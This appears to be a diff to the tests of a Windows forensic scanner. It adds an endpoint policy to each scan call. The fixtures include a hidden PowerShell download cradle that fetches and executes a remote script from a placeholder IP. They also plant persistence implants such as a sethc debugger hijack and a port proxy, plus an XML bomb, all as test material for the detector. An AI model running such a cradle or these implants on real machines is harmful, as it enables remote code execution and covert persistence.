@@ -13,7 +13,7 @@ from pathlib import Path
 
 import pytest
 
-from cranewatch.forensics.api import scan_image
+from cranewatch.forensics.api import endpoint_policy, scan_image
 from cranewatch.forensics.windows.commands import (
     cradle_in,
     decoded_powershell,
@@ -33,6 +33,9 @@ from windows_helpers import (
     unpack_hive,
     write,
 )
+
+# The collections are STS-07's CMS: its zones (no crane is built into the library).
+STS07, _ = endpoint_policy(profile=Path(__file__).parents[1] / "src/cranewatch/data/profiles/sts-07.toml")
 
 CMS_SVC = "C:\\ProgramData\\CraneSync\\cranesync.exe"
 CRADLE = "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.50/a.ps1')\""
@@ -189,7 +192,7 @@ def implanted(shared_data: Path, tmp_path_factory: pytest.TempPathFactory) -> Pa
 
 
 def test_every_implant_of_a_windows_10_collection_is_found(implanted: Path) -> None:
-    result = scan_image(implanted, workers=1)
+    result = scan_image(implanted, workers=1, policy=STS07)
     missing = []
     for rule, word, lowest in IMPLANTS:
         hits = _matching(result.findings, rule, word)
@@ -200,7 +203,7 @@ def test_every_implant_of_a_windows_10_collection_is_found(implanted: Path) -> N
 
 
 def test_registry_findings_name_the_hive_key_and_value(implanted: Path) -> None:
-    findings = scan_image(implanted, workers=1).findings
+    findings = scan_image(implanted, workers=1, policy=STS07).findings
     (sethc,) = _matching(findings, "windows.ifeo-debugger", "sethc.exe")
     evidence = sethc.evidence[0]
     assert evidence.path == "Windows/System32/config/SOFTWARE"
@@ -226,7 +229,7 @@ def test_registry_findings_name_the_hive_key_and_value(implanted: Path) -> None:
 
 def test_stock_windows_gives_nothing_high(shared_data: Path, tmp_path: Path) -> None:
     tree = stock_tree(shared_data, tmp_path / "C")
-    result = scan_image(tree, workers=1)
+    result = scan_image(tree, workers=1, policy=STS07)
     high = [(f.rule, f.title) for f in result.findings if f.severity >= Severity.HIGH]
     assert high == []
     assert result.warnings == ()
@@ -240,8 +243,8 @@ def test_the_same_tree_as_a_zip_gives_the_same_findings(implanted: Path, tmp_pat
         for path in sorted(implanted.rglob("*")):
             if path.is_file():
                 zf.write(path, path.relative_to(implanted).as_posix())
-    as_dir = scan_image(implanted, workers=1).findings
-    as_zip = scan_image(archive, workers=1).findings
+    as_dir = scan_image(implanted, workers=1, policy=STS07).findings
+    as_zip = scan_image(archive, workers=1, policy=STS07).findings
     assert [(f.id, f.rule, f.severity, f.title) for f in as_zip] == [(f.id, f.rule, f.severity, f.title) for f in as_dir]
 
 
@@ -251,7 +254,7 @@ def test_paths_are_found_whatever_their_case(shared_data: Path, tmp_path: Path) 
     set_values(root / "WINDOWS/system32/CONFIG/system", [
         ("ControlSet001\\Services\\PortProxy\\v4tov4\\tcp", "0.0.0.0/102", REG_SZ, "10.20.7.11/102"),
     ])
-    found = scan_image(root, workers=1).findings
+    found = scan_image(root, workers=1, policy=STS07).findings
     # (the stock hive's own medium findings, e.g. its OpenSSH firewall rule, are not the point here)
     assert [f.rule for f in found if f.rule.startswith("windows.") and f.severity >= Severity.HIGH] == ["windows.portproxy"]
 
@@ -264,9 +267,9 @@ def test_the_current_control_set_is_followed(shared_data: Path, tmp_path: Path) 
         ("ControlSet002\\Control\\Terminal Server", "fDenyTSConnections", REG_DWORD, 0),
         ("ControlSet002\\Control\\Terminal Server\\WinStations\\RDP-Tcp", "UserAuthentication", REG_DWORD, 0),
     ])
-    assert [f for f in scan_image(root, workers=1).findings if f.rule.startswith("windows.rdp")] == []
+    assert [f for f in scan_image(root, workers=1, policy=STS07).findings if f.rule.startswith("windows.rdp")] == []
     set_values(system, [("Select", "Current", REG_DWORD, 2)])
-    (nla,) = [f for f in scan_image(root, workers=1).findings if f.rule.startswith("windows.rdp")]
+    (nla,) = [f for f in scan_image(root, workers=1, policy=STS07).findings if f.rule.startswith("windows.rdp")]
     assert nla.rule == "windows.rdp-no-nla"
     assert nla.evidence[0].values["key"] == "HKLM\\SYSTEM\\ControlSet002\\Control\\Terminal Server\\WinStations\\RDP-Tcp"
 
@@ -276,7 +279,7 @@ def test_a_corrupted_hive_is_a_located_problem_and_the_rest_is_found(shared_data
     unpack_hive(shared_data, "corrupted_system_hive", root / "Windows/System32/config/SYSTEM")
     write(root, "Windows/Panther/unattend.xml", UNATTEND)
     write(root, "Windows/System32/Tasks/CraneHealth", task_xml("C:\\Users\\Public\\health.exe"))
-    result = scan_image(root, workers=1)
+    result = scan_image(root, workers=1, policy=STS07)
     rules = {f.rule for f in result.findings}
     assert {"windows.unattend-password", "windows.scheduled-task"} <= rules
     assert result.warnings, "the corrupted hive must be reported"
@@ -291,7 +294,7 @@ def test_a_hive_that_is_not_a_hive_is_a_located_problem(tmp_path: Path) -> None:
     root = tmp_path / "C"
     write(root, "Windows/System32/config/SOFTWARE", b"regf" + b"\xff" * 100)
     write(root, "Windows/System32/Tasks/CraneHealth", task_xml("C:\\Users\\Public\\health.exe"))
-    result = scan_image(root, workers=1)
+    result = scan_image(root, workers=1, policy=STS07)
     assert [f.rule for f in result.findings if f.rule.startswith("windows.")] == ["windows.scheduled-task"]
     assert any("registry hive not readable, its checks skipped" in w and "config/SOFTWARE" in w for w in result.warnings)
 
@@ -304,7 +307,7 @@ def test_task_xml_with_a_dtd_is_refused(tmp_path: Path) -> None:
     root = tmp_path / "C"
     (root / "Windows/System32/config").mkdir(parents=True)
     write(root, "Windows/System32/Tasks/Bomb", bomb)
-    result = scan_image(root, workers=1)
+    result = scan_image(root, workers=1, policy=STS07)
     assert any("Windows/System32/Tasks/Bomb" in w and "DTD" in w for w in result.warnings)
 
 
@@ -337,7 +340,7 @@ def test_without_the_registry_reader_a_windows_tree_gets_a_warning(
     implanted: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setitem(sys.modules, "cranewatch.forensics.windows.checks", None)  # as if regipy were absent
-    result = scan_image(implanted, workers=1)
+    result = scan_image(implanted, workers=1, policy=STS07)
     assert not [f for f in result.findings if f.rule.startswith("windows.")]
     assert any("cranewatch[windows]" in w for w in result.warnings)
 
@@ -348,7 +351,7 @@ def test_a_dirty_hive_with_unusable_logs_is_read_as_stored_with_a_warning(shared
     unpack_hive(shared_data, "SYSTEM_WIN_10_1709", root / "Windows/System32/config/SYSTEM")  # left as shipped: hivex would clean it
     write(root, "Windows/System32/config/SYSTEM.LOG1", b"regf" + b"\x00" * 508 + b"JUNK" * 256)
     write(root, "Windows/System32/Tasks/CraneHealth", task_xml("C:\\Users\\Public\\health.exe"))
-    result = scan_image(root, workers=1)
+    result = scan_image(root, workers=1, policy=STS07)
     # the other checks still ran
     assert [f.rule for f in result.findings if f.rule.startswith("windows.") and f.severity >= Severity.HIGH] == [
         "windows.scheduled-task"]
@@ -378,7 +381,7 @@ def test_a_hive_larger_than_the_cap_is_not_read(implanted: Path, monkeypatch: py
     import cranewatch.forensics.windows.tree as tree
 
     monkeypatch.setattr(tree, "MAX_HIVE_BYTES", 4 << 20)  # the SYSTEM hive is 15 MB, SOFTWARE 2.8 MB
-    result = scan_image(implanted, workers=1)
+    result = scan_image(implanted, workers=1, policy=STS07)
     assert any("config/SYSTEM: registry hive of" in w and "not read" in w for w in result.warnings)
     rules = {f.rule for f in result.findings}
     assert "windows.portproxy" not in rules  # in SYSTEM
